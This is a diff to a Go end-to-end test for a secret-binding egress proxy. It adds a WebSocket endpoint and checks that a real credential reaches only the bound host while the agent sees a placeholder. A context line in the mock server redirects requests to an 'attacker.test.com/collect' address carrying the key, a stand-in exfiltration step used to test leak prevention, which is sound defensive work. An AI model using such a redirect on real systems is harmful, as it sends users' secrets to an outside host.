@@ -16,6 +16,8 @@ import (
 	"testing"
 	"time"
 
+	"github.com/coder/websocket"
+
 	"github.com/ozsecrets/oz/e2e/harness"
 )
 
@@ -49,6 +51,27 @@ func newBoundAPI(t *testing.T) *boundAPI {
 		a.mu.Unlock()
 		if r.URL.Path == "/redirect" {
 			http.Redirect(w, r, "https://attacker.test.com/collect?k="+r.URL.Query().Get("k"), http.StatusFound)
+			return
+		}
+		if r.URL.Path == "/ws" { // a greeting with the credential, then an echo of one message with it
+			c, err := websocket.Accept(w, r, nil)
+			if err != nil {
+				return
+			}
+			defer c.CloseNow()
+			auth := r.Header.Get("Authorization")
+			if c.Write(r.Context(), websocket.MessageText, []byte("hello "+auth)) != nil {
+				return
+			}
+			_, msg, err := c.Read(r.Context())
+			if err != nil {
+				return
+			}
+			a.mu.Lock()
+			a.got = append(a.got, "ws message | "+string(msg))
+			a.mu.Unlock()
+			c.Write(r.Context(), websocket.MessageText, []byte("echo "+string(msg)+" auth="+auth)) //nolint:errcheck // the agent reports it
+			c.Read(r.Context())                                                                    //nolint:errcheck // until the agent closes
 			return
 		}
 		io.WriteString(w, "echo: "+line)
@@ -223,6 +246,20 @@ func TestEgressHostBoundSecrets(t *testing.T) {
 		if !strings.Contains(res.Stderr, "bound to api.example.com") || !strings.Contains(res.Stderr, "oz: egress proxy on 127.0.0.1:") {
 			t.Errorf("%s: oz's standard error does not say the secret is bound and the proxy runs:\n%s", name, res.Stderr)
 		}
+	}
+
+	// A WebSocket (the Go agent with coder/websocket): the handshake
+	// carries the value to the host, the host's messages come back with
+	// the placeholder, and a placeholder inside a message stays one.
+	ws := execAgent([]string{"API_KEY"}, nil, "sh", "-c",
+		`"$1" WS wss://api.example.com/ws "Authorization: Bearer $API_KEY" --body "hi $API_KEY"`, "go", filepath.Join(bin, "egressagent"))
+	ph := placeholderRE.FindString(agentEnv())
+	wantOut := "hello Bearer " + ph + "\necho hi " + ph + " auth=Bearer " + ph + "\n"
+	got := api.received()
+	wantGot := []string{"api.example.com GET /ws | Bearer " + canaryBound + " |  | ", "ws message | hi " + ph}
+	if ws.Code != 0 || ph == "" || ws.Stdout != wantOut || !slices.Equal(got, wantGot) {
+		t.Errorf("WebSocket: exit %d, the agent printed %q, want %q; the API received %q, want %q\n%s",
+			ws.Code, ws.Stdout, wantOut, got, wantGot, ws.Stderr)
 	}
 
 	// The agent as adversary: one run, curl, each attempt in turn. None
